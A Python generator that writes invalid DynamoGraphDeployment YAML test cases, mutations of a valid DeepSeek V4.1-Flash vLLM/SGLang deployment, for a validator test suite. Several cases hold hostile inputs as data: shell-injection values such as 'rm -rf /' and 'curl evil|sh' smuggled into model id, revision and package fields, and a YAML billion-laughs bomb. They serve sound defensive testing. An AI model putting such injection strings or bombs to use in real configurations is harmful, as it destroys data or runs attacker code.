#!/usr/bin/python3
"""Writes the invalid-DGD corpus (tests/golden/invalid/*.yaml) from one valid base DGD.

Each case is a small, reviewed mutation of the base plus the field path(s) its error
must name, written into the file as `# expect: <path>` lines (`<document>` = the whole
document). tests/unit/api/corpus_test.cpp checks every file: parse + validate must
report an error at each expected path, never crash, and never report zero errors.
Run: /usr/bin/python3 tests/golden/invalid/generate.py   (rewrites the .yaml files)
"""
import copy
import os
import yaml

HERE = os.path.dirname(os.path.abspath(__file__))
IMAGE = "nvcr.io/nvidia/ai-dynamo/vllm-runtime:1.6.0-deepseek-v4.1-flash-dev.2"
SGL_IMAGE = "nvcr.io/nvidia/ai-dynamo/sglang-runtime:1.6.0-deepseek-v4.1-flash-dev.1"


def worker_pod(image=IMAGE, gpus="4"):
    return {"spec": {"containers": [{"name": "main", "image": image,
                                     "resources": {"requests": {"nvidia.com/gpu": gpus},
                                                   "limits": {"nvidia.com/gpu": gpus}}}]}}


def vllm_engine():
    return {
        "tensorParallelSize": 4,
        "expertParallel": True,
        "moeBackend": "flashinfer_cutlass",
        "epWeightFilter": True,
        "eplb": {"enabled": True},
        "kvCacheDtype": "fp8_ds_mla",
        "parsers": {"tokenizerMode": "deepseek_v41", "reasoningParser": "deepseek_v41",
                    "dynReasoningParser": "deepseek_v41", "dynToolCallParser": "deepseek_v41",
                    "dynEnableStructuralTag": True},
        "kvEvents": {"publisher": "zmq", "topic": "kv-events", "port": 5557, "enableKvCacheEvents": True},
        "speculative": {"method": "dspark", "numSpeculativeTokens": 3, "draftSampleMethod": "probabilistic",
                        "rejectionSampleMethod": "block", "adaptiveVerification": False},
        "maxNumSeqs": 1024,
        "maxNumBatchedTokens": 8192,
        "gpuMemoryUtilization": 0.92,
        "maxCudagraphCaptureSize": 512,
        "prefixCacheRetentionInterval": 1024,
        "kvTransfer": {"connector": "NixlConnector", "role": "kv_both", "bufferDevice": "cuda",
                       "backends": ["UCX"], "numThreads": 4},
    }


def base():
    """V4.1-Flash vLLM disaggregated on H200 (1P1D), fully typed: valid."""
    return {
        "apiVersion": "nvidia.com/v1beta1",
        "kind": "DynamoGraphDeployment",
        "metadata": {"name": "dsv41-flash-vllm-h200-disagg"},
        "spec": {
            "backendFramework": "vllm",
            "model": {"id": "deepseek-ai/DeepSeek-V4.1-Flash",
                      "revision": "dba1be0a40aa45a94ad051997016db3960a90277",
                      "cache": {"claimName": "shared-model-cache"},
                      "download": {"tokenSecretRef": {"name": "hf-token-secret", "key": "HF_TOKEN"}}},
            "placement": {"gpu": "H200",
                          "rdma": {"resource": "rdma/ib", "perWorker": 4, "nicSelection": "sriov"},
                          "separatePrefillDecode": True},
            "env": [{"name": "HF_HUB_OFFLINE", "value": "1"}],
            "components": [
                {"name": "Frontend", "type": "frontend", "replicas": 1,
                 "router": {"mode": "kv", "decodeActiveRequestWeight": 50,
                            "conditionalDisaggregation": {"enabled": True, "policy": "isl_bounding",
                                                          "effIslThreshold": 2048, "effIslRatioThreshold": 0.7,
                                                          "decodeBusyThreshold": 0.5}},
                 "podTemplate": {"spec": {"containers": [{"name": "main", "image": IMAGE}]}}},
                {"name": "PrefillWorker", "type": "prefill", "replicas": 1, "sharedMemorySize": "200Gi",
                 "engine": vllm_engine(), "podTemplate": worker_pod()},
                {"name": "DecodeWorker", "type": "decode", "replicas": 1, "sharedMemorySize": "200Gi",
                 "engine": vllm_engine(), "podTemplate": worker_pod()},
            ],
        },
    }


def sglang_base():
    """V4.1-Flash SGLang disaggregated on GB200: valid."""
    d = base()
    d["metadata"]["name"] = "dsv41-flash-sglang-gb200-disagg"
    s = d["spec"]
    s["backendFramework"] = "sglang"
    s["placement"] = {"gpu": "GB200", "nvlink": {"computeDomain": True, "sameClique": True}}
    s["components"][0]["router"] = {"mode": "kv"}
    s["components"][0]["podTemplate"]["spec"]["containers"][0]["image"] = SGL_IMAGE
    for c in s["components"][1:]:
        c["engine"] = {"trustRemoteCode": True, "tensorParallelSize": 4, "expertParallelSize": 4, "blockSize": 256,
                       "maxNumSeqs": 256,
                       "parsers": {"reasoningParser": "auto", "dynReasoningParser": "deepseek_v41",
                                   "dynToolCallParser": "deepseek_v41"},
                       "kvTransfer": {"transferBackend": "mooncake", "bootstrapPort": 30001},
                       "sglang": {"memFractionStatic": 0.8, "watchdogTimeout": 3600}}
        c["podTemplate"] = worker_pod(SGL_IMAGE)
    return d


CASES = []


def case(name, expect, doc=None, text=None, why=""):
    CASES.append((name, expect if isinstance(expect, list) else [expect], doc, text, why))


def mutate(fn, start=base):
    d = start()
    fn(d)
    return d


C = lambda d, i: d["spec"]["components"][i]  # noqa: E731
E = lambda d, i: d["spec"]["components"][i]["engine"]  # noqa: E731
P = "spec.components[1].engine"
D = "spec.components[2].engine"

# ---- shape: types, enums, unknown fields ------------------------------------------------
case("unknown-engine-field", P + ".tensorParalelSize",
     mutate(lambda d: E(d, 1).update({"tensorParalelSize": 4})), why="typo in a typed block")
case("unknown-placement-field", "spec.placement.rdma.resources",
     mutate(lambda d: d["spec"]["placement"]["rdma"].update({"resources": "rdma/ib"})))
case("replicas-string", "spec.components[1].replicas", mutate(lambda d: C(d, 1).update({"replicas": "2"})))
case("replicas-negative", "spec.components[1].replicas", mutate(lambda d: C(d, 1).update({"replicas": -1})))
case("replicas-huge", "spec.components[1].replicas",
     mutate(lambda d: C(d, 1).update({"replicas": 99999999999999})), why="beyond int32")
case("replicas-over-bound", "spec.components[2].replicas", mutate(lambda d: C(d, 2).update({"replicas": 5000})))
case("backend-framework-unknown", "spec.backendFramework",
     mutate(lambda d: d["spec"].update({"backendFramework": "pytorch"})))
case("component-type-unknown", "spec.components[0].type", mutate(lambda d: C(d, 0).update({"type": "gateway"})))
case("component-type-missing", "spec.components[2].type", mutate(lambda d: C(d, 2).pop("type")))
case("scaling-adapter-alpha-enabled", "spec.components[1].scalingAdapter.enabled",
     mutate(lambda d: C(d, 1).update({"scalingAdapter": {"enabled": True}})),
     why="v1alpha1's form; in v1beta1 scalingAdapter: {} opts in")
case("epp-unsupported", "spec.components[3].type",
     mutate(lambda d: d["spec"]["components"].append(
         {"name": "Epp", "type": "epp", "podTemplate": {"spec": {"containers": [{"name": "main", "image": IMAGE}]}}})))
case("api-version-alpha", "apiVersion", mutate(lambda d: d.update({"apiVersion": "nvidia.com/v1alpha1"})))
case("kind-wrong", "kind", mutate(lambda d: d.update({"kind": "DynamoComponentDeployment"})))
case("alpha-services-map", "spec.services",
     mutate(lambda d: d["spec"].update({"services": {"Frontend": {"componentType": "frontend"}}})))
case("grove-only-priority-class", "spec.priorityClassName",
     mutate(lambda d: d["spec"].update({"priorityClassName": "high"})))
case("multinode-unsupported", "spec.components[1].multinode",
     mutate(lambda d: C(d, 1).update({"multinode": {"nodeCount": 2}})))
case("restart-order-unknown-component", "spec.restart.strategy.order[1]",
     mutate(lambda d: d["spec"].update({"restart": {"id": "r1", "strategy": {
         "order": ["Frontend", "Decoder", "PrefillWorker"]}}})))
case("restart-order-with-parallel", "spec.restart.strategy.order",
     mutate(lambda d: d["spec"].update({"restart": {"id": "r1", "strategy": {
         "type": "Parallel", "order": ["Frontend", "PrefillWorker", "DecodeWorker"]}}})))
case("restart-order-duplicate", "spec.restart.strategy.order",
     mutate(lambda d: d["spec"].update({"restart": {"id": "r1", "strategy": {
         "order": ["Frontend", "Frontend", "PrefillWorker"]}}})))
case("restart-id-empty", "spec.restart.id", mutate(lambda d: d["spec"].update({"restart": {"id": ""}})))
case("upstream-min-available", "spec.components[1].minAvailable",
     mutate(lambda d: C(d, 1).update({"minAvailable": 1})))
case("upstream-model-ref", "spec.components[1].modelRef",
     mutate(lambda d: C(d, 1).update({"modelRef": {"name": "deepseek-ai/DeepSeek-V4.1-Flash"}})))
case("upstream-runtime-version-override", "spec.components[1].runtimeVersionOverride",
     mutate(lambda d: C(d, 1).update({"runtimeVersionOverride": "1.6.0"})))
case("upstream-frontend-sidecar", "spec.components[1].frontendSidecar",
     mutate(lambda d: C(d, 1).update({"frontendSidecar": "sidecar-frontend"})))
case("upstream-experimental-gms", "spec.components[1].experimental.gpuMemoryService",
     mutate(lambda d: C(d, 1).update({"experimental": {"gpuMemoryService": {"mode": "IntraPod"}}})))
case("upstream-experimental-kv-transfer-policy", "spec.experimental.kvTransferPolicy",
     mutate(lambda d: d["spec"].update({"experimental": {"kvTransferPolicy": {"labelKey": "rack", "domain": "rack"}}})))
case("compilation-cache-without-pvc", "spec.components[1].compilationCache.pvcName",
     mutate(lambda d: C(d, 1).update({"compilationCache": {"mountPath": "/cache"}})))
case("compilation-cache-on-frontend", "spec.components[0].compilationCache",
     mutate(lambda d: C(d, 0).update({"compilationCache": {"pvcName": "compile-cache"}})))
case("gpu-product-unknown", "spec.placement.gpu", mutate(lambda d: d["spec"]["placement"].update({"gpu": "A100"})))
case("nic-selection-unknown", "spec.placement.rdma.nicSelection",
     mutate(lambda d: d["spec"]["placement"]["rdma"].update({"nicSelection": "auto"})))
case("router-mode-unknown", "spec.components[0].router.mode",
     mutate(lambda d: C(d, 0)["router"].update({"mode": "kv-aware"})))
case("podtemplate-not-object", "spec.components[1].podTemplate",
     mutate(lambda d: C(d, 1).update({"podTemplate": "main"})))
case("tolerations-not-list", "spec.placement.tolerations",
     mutate(lambda d: d["spec"]["placement"].update({"tolerations": {"key": "nvidia.com/gpu"}})))
case("expert-parallel-string", P + ".expertParallel",
     mutate(lambda d: E(d, 1).update({"expertParallel": "yes"})), why="quoted: a string, not a boolean")

# ---- names --------------------------------------------------------------------------------
case("duplicate-names-case-insensitive", "spec.components[3].name",
     mutate(lambda d: d["spec"]["components"].append(dict(copy.deepcopy(C(d, 2)), name="decodeworker"))))
case("child-name-over-63", "spec.components[1].name",
     mutate(lambda d: (d["metadata"].update({"name": "dsv41-flash-vllm-h200-disagg-agentic-long"}),
                       C(d, 1).update({"name": "PrefillWorkerWithAVeryLongName"}))),
     why="<dgd>-<component> is 72 characters")
case("dgd-name-uppercase", "metadata.name", mutate(lambda d: d["metadata"].update({"name": "DSV41_Flash"})))
case("dgd-name-starts-with-digit", "metadata.name", mutate(lambda d: d["metadata"].update({"name": "41-flash"})))
case("dgd-name-missing", "metadata.name", mutate(lambda d: d["metadata"].pop("name")))
case("component-name-unicode", "spec.components[2].name", mutate(lambda d: C(d, 2).update({"name": "Décodé"})))
case("component-name-huge", "spec.components[2].name", mutate(lambda d: C(d, 2).update({"name": "D" * 70000})),
     why="70 000-character name")
case("dgd-name-huge", "metadata.name", mutate(lambda d: d["metadata"].update({"name": "a" * 70000})))


def hundred(d):
    comps = d["spec"]["components"]
    for i in range(97):
        w = {"name": "DecodeWorker%d" % i, "type": "decode", "podTemplate": worker_pod()}
        comps.append(w)


case("too-many-components", "spec.components", mutate(hundred), why="100 components, upstream allows 25")
case("label-value-invalid", "spec.labels.team", mutate(lambda d: d["spec"].update({"labels": {"team": "a b/c"}})))

# ---- ranges, quantities, syntax ----------------------------------------------------------
case("shm-not-a-quantity", "spec.components[1].sharedMemorySize",
     mutate(lambda d: C(d, 1).update({"sharedMemorySize": "200GB"})))
case("cache-size-not-a-quantity", "spec.model.cache.create.size",
     mutate(lambda d: d["spec"]["model"]["cache"].update({"create": {"size": "lots"}})))
case("download-package-not-pinned", "spec.model.download.packages[0]",
     mutate(lambda d: d["spec"]["model"]["download"].update({"packages": ["huggingface_hub>=1.11;curl evil|sh"]})))
case("num-speculative-tokens-range", [P + ".speculative.numSpeculativeTokens", D + ".speculative.numSpeculativeTokens"],
     mutate(lambda d: [E(d, i)["speculative"].update({"numSpeculativeTokens": 12}) for i in (1, 2)]))
case("gpu-memory-utilization-range", P + ".gpuMemoryUtilization",
     mutate(lambda d: E(d, 1).update({"gpuMemoryUtilization": 1.5})))
case("block-size-not-power-of-two", [P + ".blockSize", D + ".blockSize"],
     mutate(lambda d: [E(d, i).update({"blockSize": 100}) for i in (1, 2)]))
case("kv-cache-dtype-typo", [P + ".kvCacheDtype", D + ".kvCacheDtype"],
     mutate(lambda d: [E(d, i).update({"kvCacheDtype": "fp8-ds-mla"}) for i in (1, 2)]))
case("moe-backend-typo", P + ".moeBackend", mutate(lambda d: E(d, 1).update({"moeBackend": "cutlass_flashinfer"})))
case("kv-role-unknown", D + ".kvTransfer.role", mutate(lambda d: E(d, 2)["kvTransfer"].update({"role": "kv_sender"})))
case("nixl-backend-unknown", P + ".kvTransfer.backends[0]",
     mutate(lambda d: E(d, 1)["kvTransfer"].update({"backends": ["ucx"]})))
case("conditional-ratio-range", "spec.components[0].router.conditionalDisaggregation.effIslRatioThreshold",
     mutate(lambda d: C(d, 0)["router"]["conditionalDisaggregation"].update({"effIslRatioThreshold": 1.7})))
case("env-name-invalid", "spec.env[0].name", mutate(lambda d: d["spec"]["env"][0].update({"name": "1BAD"})))
case("env-value-and-value-from", "spec.env[0]",
     mutate(lambda d: d["spec"]["env"][0].update({"valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}})))
case("env-duplicate", "spec.env[1].name",
     mutate(lambda d: d["spec"]["env"].append({"name": "HF_HUB_OFFLINE", "value": "0"})))
case("env-value-number", "spec.env[0].value", mutate(lambda d: d["spec"]["env"][0].update({"value": 1})),
     why="Kubernetes env values are strings")
case("pcie-map-bad-address", "spec.placement.rdma.pcieMap[0].gpu",
     mutate(lambda d: d["spec"]["placement"]["rdma"].update(
         {"nicSelection": "pcieMap", "pcieMap": [{"gpu": "18:00", "nic": "0000:19:00.0"}]})))
case("model-id-shell-injection", "spec.model.id",
     mutate(lambda d: d["spec"]["model"].update({"id": "deepseek-ai/x; rm -rf /"})),
     why="the id reaches the download Job's shell")
case("revision-shell-injection", "spec.model.revision",
     mutate(lambda d: d["spec"]["model"].update({"revision": "main && curl evil"})))
case("mount-path-relative", "spec.model.cache.mountPath",
     mutate(lambda d: d["spec"]["model"]["cache"].update({"mountPath": "model-cache"})))
case("token-secret-name-invalid", "spec.model.download.tokenSecretRef.name",
     mutate(lambda d: d["spec"]["model"]["download"]["tokenSecretRef"].update({"name": "HF Token"})))
case("kv-events-port-reserved", P + ".kvEvents.port", mutate(lambda d: E(d, 1)["kvEvents"].update({"port": 9090})))
case("download-resources-bad-quantity", "spec.model.download.resources.limits.memory",
     mutate(lambda d: d["spec"]["model"]["download"].update({"resources": {"limits": {"memory": "16 GB"}}})))
case("main-image-missing", "spec.components[1].podTemplate.spec.containers[0].image",
     mutate(lambda d: C(d, 1)["podTemplate"]["spec"]["containers"][0].pop("image")))

# ---- cross-field rules --------------------------------------------------------------------
case("flashmla-mega-attention-on-h200", P + ".attention.backend",
     mutate(lambda d: E(d, 1).update({"attention": {"backend": "FLASHMLA_MEGA_ATTN_DSV41"}})))
case("mxfp4-indexer-on-h200", D + ".attention.indexerKvDtype",
     mutate(lambda d: E(d, 2).update({"attention": {"indexerKvDtype": "mxfp4", "indexerSparseLogits": True}})))
case("deep-gemm-mega-moe-on-h200", [P + ".moeBackend", D + ".moeBackend"],
     mutate(lambda d: [E(d, i).update({"moeBackend": "deep_gemm_mega_moe"}) for i in (1, 2)]))
case("nvfp4-kv-cache-on-h200", [P + ".kvCacheDtype", D + ".kvCacheDtype"],
     mutate(lambda d: [E(d, i).update({"kvCacheDtype": "nvfp4_ds_mla"}) for i in (1, 2)]))
case("eplb-without-expert-parallel", P + ".eplb.enabled", mutate(lambda d: E(d, 1).pop("expertParallel")))
case("disagg-without-connector", [P + ".kvTransfer.connector", D + ".kvTransfer.connector"],
     mutate(lambda d: [E(d, i).pop("kvTransfer") for i in (1, 2)]))
case("kv-connector-differs", D + ".kvTransfer.connector",
     mutate(lambda d: E(d, 2)["kvTransfer"].update({"connector": "MooncakeConnector", "backends": [], "numThreads": None})))
case("speculative-differs-prefill-decode", D + ".speculative",
     mutate(lambda d: E(d, 2)["speculative"].update({"numSpeculativeTokens": 2})))
case("dspark-on-prefill-only", D + ".speculative", mutate(lambda d: E(d, 2).pop("speculative")))
case("dspark-adaptive-verification", [P + ".speculative.adaptiveVerification", D + ".speculative.adaptiveVerification"],
     mutate(lambda d: [E(d, i)["speculative"].update({"adaptiveVerification": True}) for i in (1, 2)]))
case("kv-cache-dtype-differs", D + ".kvCacheDtype", mutate(lambda d: E(d, 2).update({"kvCacheDtype": "fp8"})))
case("static-ucx-net-devices-with-sriov", "spec.components[2].env[0]",
     mutate(lambda d: C(d, 2).update({"env": [{"name": "UCX_NET_DEVICES", "value": "mlx5_0:1,mlx5_1:1"}]})))
case("static-ucx-net-devices-in-pod-template", "spec.components[1].podTemplate.spec.containers[0].env[0]",
     mutate(lambda d: C(d, 1)["podTemplate"]["spec"]["containers"][0].update(
         {"env": [{"name": "UCX_NET_DEVICES", "value": "mlx5_0:1"}]})))
case("static-ucx-net-devices-graph-env", "spec.env[1]",
     mutate(lambda d: d["spec"]["env"].append({"name": "UCX_NET_DEVICES", "value": "mlx5_0:1"})))
case("engine-and-dynamo-tool-call-parsers", P + ".parsers.toolCallParser",
     mutate(lambda d: E(d, 1)["parsers"].update({"toolCallParser": "deepseek_v41"})))
case("main-args-with-engine", "spec.components[1].podTemplate.spec.containers[0].args",
     mutate(lambda d: C(d, 1)["podTemplate"]["spec"]["containers"][0].update(
         {"args": ["-m", "dynamo.vllm", "--tensor-parallel-size", "4"]})))
case("prefill-without-decode", "spec.components[1].type", mutate(lambda d: d["spec"]["components"].pop(2)))
case("decode-without-prefill", "spec.components[1].type", mutate(lambda d: d["spec"]["components"].pop(1)))
case("sriov-without-rdma-resource", "spec.placement.rdma.nicSelection",
     mutate(lambda d: d["spec"]["placement"].update({"rdma": {"nicSelection": "sriov"}})))
case("pcie-map-mode-without-map", "spec.placement.rdma.pcieMap",
     mutate(lambda d: d["spec"]["placement"]["rdma"].update({"nicSelection": "pcieMap"})))
case("tensor-parallel-vs-gpus", P + ".tensorParallelSize",
     mutate(lambda d: C(d, 1).update({"podTemplate": worker_pod(gpus="8")})), why="TP4 on an 8-GPU pod")
case("compute-domain-on-h200", "spec.placement.nvlink.computeDomain",
     mutate(lambda d: d["spec"]["placement"].update({"nvlink": {"computeDomain": True}})))
case("router-block-size-mismatch", "spec.components[0].router.blockSize",
     mutate(lambda d: (C(d, 0)["router"].update({"blockSize": 64}),
                       [E(d, i).update({"blockSize": 128}) for i in (1, 2)])))
case("engine-on-frontend", "spec.components[0].engine", mutate(lambda d: C(d, 0).update({"engine": {"maxNumSeqs": 8}})))
case("router-on-worker", "spec.components[1].router", mutate(lambda d: C(d, 1).update({"router": {"mode": "kv"}})))
case("extra-args-duplicate-typed-flag", P + ".extraArgs[0]",
     mutate(lambda d: E(d, 1).update({"extraArgs": ["--max-num-seqs=64"]})))
case("max-batched-tokens-below-max-seqs", P + ".maxNumBatchedTokens",
     mutate(lambda d: E(d, 1).update({"maxNumBatchedTokens": 512})))
case("sglang-block-with-vllm", P + ".sglang", mutate(lambda d: E(d, 1).update({"sglang": {"memFractionStatic": 0.8}})))
case("conditional-disagg-on-aggregated-graph", "spec.components[0].router.conditionalDisaggregation",
     mutate(lambda d: (d["spec"]["components"].pop(2), C(d, 1).update({"type": "worker"}),
                       E(d, 1).pop("kvTransfer"), d["spec"]["placement"].pop("separatePrefillDecode"))))
case("trtllm-with-engine", [P, D], mutate(lambda d: d["spec"].update({"backendFramework": "trtllm"})))
case("gpu-memory-utilization-with-sglang", "spec.components[1].engine.gpuMemoryUtilization",
     mutate(lambda d: E(d, 1).update({"gpuMemoryUtilization": 0.9}), sglang_base))
case("sglang-on-h200", "spec.placement.gpu",
     mutate(lambda d: d["spec"].update({"placement": {"gpu": "H200"}}), sglang_base),
     why="no SGLang recipe for H200")
case("sglang-on-b200", "spec.placement.gpu",
     mutate(lambda d: d["spec"].update({"placement": {"gpu": "B200"}}), sglang_base),
     why="no SGLang recipe for B200")
case("sglang-disagg-without-transfer-backend", "spec.components[2].engine.kvTransfer.transferBackend",
     mutate(lambda d: E(d, 2).pop("kvTransfer"), sglang_base))
case("sglang-cuda-graph-bs-in-config", "spec.components[1].engine.sglang.extraConfig.cuda-graph-max-bs-decode",
     mutate(lambda d: E(d, 1)["sglang"].update({"extraConfig": {"cuda-graph-max-bs-decode": 64}}), sglang_base))
case("sglang-vllm-only-settings", ["spec.components[1].engine.expertParallel", "spec.components[1].engine.attention"],
     mutate(lambda d: E(d, 1).update({"expertParallel": True, "attention": {"backend": "FLASHMLA"}}), sglang_base),
     why="settings the SGLang renderer has no place for")
case("vllm-kv-transfer-without-connector", P + ".kvTransfer.connector",
     mutate(lambda d: E(d, 1)["kvTransfer"].pop("connector")))
case("sglang-port-collision", "spec.components[2].engine.sglang.port",
     mutate(lambda d: E(d, 2)["sglang"].update({"port": 30001}), sglang_base),
     why="engine HTTP port equals the bootstrap port")
case("gb200-split-clique-without-rdma", "spec.placement.nvlink.sameClique",
     mutate(lambda d: d["spec"]["placement"]["nvlink"].update({"sameClique": False}), sglang_base))
case("keep-on-delete-without-create", "spec.model.cache.keepOnDelete",
     mutate(lambda d: d["spec"]["model"]["cache"].update({"keepOnDelete": True})))

case("rollout-strategy-unknown", "spec.annotations[nvidia.com/deployment-strategy]",
     mutate(lambda d: d["spec"].update({"annotations": {"nvidia.com/deployment-strategy": "BlueGreen"}})),
     why="upstream's rollout annotation: RollingUpdate or Recreate")
case("rollout-max-surge-not-a-number",
     "spec.components[2].podTemplate.metadata.annotations[nvidia.com/deployment-rolling-update-max-surge]",
     mutate(lambda d: C(d, 2)["podTemplate"].update(
         {"metadata": {"annotations": {"nvidia.com/deployment-rolling-update-max-surge": "one"}}})))

# ---- overlays on a recipe (only what is stated is checked) --------------------------------
OVERLAY = {"apiVersion": "nvidia.com/v1beta1", "kind": "DynamoGraphDeployment",
           "metadata": {"name": "dsv41-flash-vllm-h200-disagg-agentic"},
           "spec": {"recipe": "deepseek-v4.1-flash/vllm/disagg-h200-agentic",
                    "components": [{"name": "DecodeWorker", "replicas": 2}]}}
case("overlay-recipe-name-malformed", "spec.recipe",
     mutate(lambda d: d["spec"].update({"recipe": "DeepSeek V4.1"}), lambda: copy.deepcopy(OVERLAY)))
case("overlay-framework-contradicts-recipe", "spec.backendFramework",
     mutate(lambda d: d["spec"].update({"backendFramework": "sglang"}), lambda: copy.deepcopy(OVERLAY)))
case("overlay-sriov-with-static-ucx", "spec.env[0]",
     mutate(lambda d: d["spec"].update({"placement": {"rdma": {"resource": "rdma/ib", "nicSelection": "sriov"}},
                                        "env": [{"name": "UCX_NET_DEVICES", "value": "mlx5_0:1"}]}),
            lambda: copy.deepcopy(OVERLAY)))

# ---- hostile text -------------------------------------------------------------------------
case("yaml-syntax-error", "<document>", text="apiVersion: nvidia.com/v1beta1\nspec: [unclosed\n  - {a: \n")
case("yaml-not-an-object", "<document>", text="- just\n- a list\n")
case("yaml-billion-laughs", "<document>", text="\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"] +
    ["a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]" % ((i, i) + (i - 1,) * 10)
     for i in range(1, 9)]) + "\n", why="10^9 nodes after alias expansion")
case("yaml-deep-nesting", "<document>", text="a: " + "[" * 5000 + "]" * 5000 + "\n")
case("yaml-duplicate-key", "<document>",
     text="apiVersion: nvidia.com/v1beta1\nkind: DynamoGraphDeployment\nkind: DynamoGraphDeployment\n")
case("yaml-two-documents", "<document>", text="a: 1\n---\nb: 2\n")


VALID = {
    "vllm-disagg-h200-typed": (base, "V4.1-Flash vLLM 1P1D on H200, every typed block"),
    "sglang-disagg-gb200-typed": (sglang_base, "V4.1-Flash SGLang 1P1D on GB200"),
    "overlay-design-example": (lambda: mutate(lambda d: d["spec"].update({
        "model": {"cache": {"claimName": "shared-model-cache"},
                  "download": {"tokenSecretRef": {"name": "hf-token-secret", "key": "HF_TOKEN"}}},
        "placement": {"rdma": {"resource": "rdma/ib", "perWorker": 4, "nicSelection": "sriov"}}}),
        lambda: copy.deepcopy(OVERLAY)), "DESIGN.md section 2: a user DGD on top of a recipe"),
}


def write_valid():
    valid_dir = os.path.join(HERE, "..", "valid")
    for name, (make, why) in VALID.items():
        body = yaml.safe_dump(make(), sort_keys=False, allow_unicode=True, width=100)
        with open(os.path.join(valid_dir, "generated-" + name + ".yaml"), "w", encoding="utf-8") as out:
            out.write("# Generated by ../invalid/generate.py. %s\n" % why + body)


def main():
    write_valid()
    for f in os.listdir(HERE):
        if f.endswith(".yaml"):
            os.remove(os.path.join(HERE, f))
    names = set()
    for name, expect, doc, text, why in CASES:
        assert name not in names, name
        names.add(name)
        header = "".join("# expect: %s\n" % p for p in expect)
        if why:
            header = "# %s\n" % why + header
        body = text if text is not None else yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=100)
        with open(os.path.join(HERE, name + ".yaml"), "w", encoding="utf-8") as out:
            out.write("# Generated by generate.py: edit the case there.\n" + header + body)
    print("wrote %d cases" % len(CASES))


if __name__ == "__main__":
    main()
